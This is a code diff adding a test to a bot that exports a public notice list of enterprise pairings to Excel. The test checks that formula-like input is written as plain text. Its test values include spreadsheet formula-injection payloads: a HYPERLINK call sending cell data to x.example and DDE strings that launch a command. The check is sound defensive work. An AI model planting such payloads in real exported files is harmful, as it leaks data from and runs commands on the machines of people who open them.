@@ -330,6 +330,28 @@ async def test_notice_list_export_for_admins_only(people, database_url, monkeypa
     assert load_workbook(tmp_path / "notice.xlsx").active["C2"].value == "孙悦"
 
 
+async def test_notice_export_writes_formula_like_text_as_text(people) -> None:
+    """What an enterprise typed (or an import brought) never runs as a formula in the export."""
+    h = people
+    pairing = await choose_each_other(h, SUN, TAIFENG)
+    typed = {"field": "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "expected_help": "+1+cmd|' /C calc'!A0",
+             "enterprise": "@SUM(1+1)*cmd|' /C calc'!A0"}
+    async with h.sessionmaker() as session:
+        need = await session.get(Need, pairing.need_id)
+        need.field, need.expected_help = typed["field"], typed["expected_help"]
+        need.enterprise.name = typed["enterprise"]
+        await session.commit()
+    await h.drain()
+    await inbox(h, BUREAU_ADMIN).press("✅ 确认结对")
+    walk = Walk(h, PINGDING)
+    await walk.send("/notice")
+    await walk.press("📥 导出公示名单")
+    [document] = [r for r in walk.seen if type(r).__name__ == "SendDocument"]
+    row = load_workbook(_bytes_of(document)).active[2]
+    for cell, value in ((row[5], typed["enterprise"]), (row[7], typed["field"]), (row[8], typed["expected_help"])):
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True)
+
+
 def _bytes_of(document):  # noqa: ANN001, ANN202
     from io import BytesIO
 
